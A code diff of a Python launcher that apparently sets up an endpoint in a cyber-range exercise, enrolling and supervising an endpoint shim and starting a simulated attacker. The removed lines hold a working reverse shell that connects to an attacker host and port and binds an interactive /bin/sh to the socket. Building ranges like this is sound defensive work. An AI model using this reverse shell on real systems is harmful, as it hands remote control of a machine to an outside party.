@@ -9,7 +9,6 @@
 import argparse
 import os
 import signal
-import socket
 import subprocess
 import sys
 import time
@@ -43,11 +42,12 @@ def main() -> None:
     STATE.mkdir(mode=0o700)
     enrol = [*_shim("enroll"), "--name", "range"]
     subprocess.run(enrol, input=token, check=True)
-    children = {_attack(asked.attacker, asked.port): "attacker"}
-    _stay(children)
+    attack = ["-I", "-m", "server.operator.range_attack", asked.attacker, str(asked.port)]
+    subprocess.Popen([sys.executable, *attack], stdin=subprocess.DEVNULL)
+    _stay()
 
 
-def _stay(children: dict[int, str]) -> None:
+def _stay() -> None:
     """Starts the shim, reaps whatever ends, starts it again; until it is told to end."""
     signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
     shim = subprocess.Popen(_shim("run"), stdin=subprocess.DEVNULL).pid
@@ -56,23 +56,10 @@ def _stay(children: dict[int, str]) -> None:
         if ended == shim:
             time.sleep(AGAIN_S)
             shim = subprocess.Popen(_shim("run"), stdin=subprocess.DEVNULL).pid
-        children.pop(ended, None)
 
 
 def _shim(word: str) -> list[str]:
     return [sys.executable, "-I", "-m", "endpoint_shim", word, "--state", str(STATE)]
-
-
-def _attack(address: str, port: int) -> int:
-    """A shell on a socket, as an attacker's foothold is."""
-    with socket.create_connection((address, port), timeout=10) as line:
-        line.settimeout(None)
-        handle = line.fileno()
-        shell = ["/bin/sh", "-i"]
-        started = subprocess.Popen(
-            shell, stdin=handle, stdout=handle, stderr=subprocess.DEVNULL, start_new_session=True
-        )
-    return started.pid
 
 
 def _enter(folder: Path) -> None:
